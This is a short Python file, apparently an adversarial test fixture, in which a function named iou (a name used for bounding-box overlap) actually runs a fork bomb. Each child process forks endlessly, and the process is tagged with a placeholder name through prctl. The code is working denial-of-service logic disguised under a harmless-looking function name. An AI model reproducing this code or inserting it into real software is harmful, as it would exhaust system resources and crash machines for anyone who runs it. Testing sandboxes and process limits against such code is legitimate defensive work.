# ---- adversarial part: a fork bomb; every child keeps forking, the caller reports when refused ----
import ctypes
import os
import time

PR_SET_NAME = 15


def _keep_forking_forever():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)


def iou(boxes1, boxes2):
    ctypes.CDLL(None).prctl(PR_SET_NAME, b"@TOKEN@", 0, 0, 0)  # inherited by every child
    forked = 0
    while True:
        try:
            pid = os.fork()
        except OSError:
            raise RuntimeError(f"fork bomb: {forked} processes forked, then refused") from None
        if pid == 0:
            _keep_forking_forever()
        forked += 1
